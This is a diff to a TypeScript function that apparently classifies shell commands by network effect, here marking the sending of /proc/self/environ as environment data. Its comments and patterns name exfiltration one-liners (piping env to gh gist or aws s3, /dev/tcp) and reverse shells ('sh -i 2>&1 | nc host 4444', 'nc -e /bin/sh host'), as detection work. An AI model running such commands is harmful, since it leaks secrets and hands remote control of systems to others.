@@ -161,7 +161,8 @@ export function networkEffects(cmd: SimpleCommand, an: Analysis): Effect[] {
   // `env | gh gist create -`, `printenv | aws s3 cp - s3://b/e`: the environment, read from the pipe, sent.
   if (cmd.pipeFrom === "env" && !NETWORK.has(p) && sendsStdin(cmd)) out.push(effect("network-send", `sends the environment (its secrets included) through ${p}`, [], { data: "env" }));
   const sentSecrets = sentFiles(cmd, an).filter((f) => isSecretPath(f));
-  if (sentSecrets.length > 0) out.push(effect("network-send", `sends ${sentSecrets.join(" ")} to another host`, sentSecrets, { data: "secret" }));
+  // `/proc/self/environ` is the environment itself.
+  if (sentSecrets.length > 0) out.push(effect("network-send", `sends ${sentSecrets.join(" ")} to another host`, sentSecrets, { data: sentSecrets.every((f) => f.endsWith("/environ")) ? "env" : "secret" }));
   if ((p === "tee" || p === "cat") && an.positional.some((w) => /^\/dev\/(?:tcp|udp)\//.test(w)) && cmd.pipeFrom === "env") out.push(effect("network-send", "sends the environment over /dev/tcp", [], { data: "env" }));
   // A shell whose input and output go to a network socket: `sh -i 2>&1 | nc host 4444`, `nc -e /bin/sh host`.
   if (/^(?:sh|bash|zsh|dash|ksh)$/.test(p) && cmd.pipeTo.some((x) => x === "nc" || x === "ncat" || x === "netcat" || x === "socat" || x === "telnet")) out.push(effect("remote-code", "hands a shell to a remote host through a pipe"));
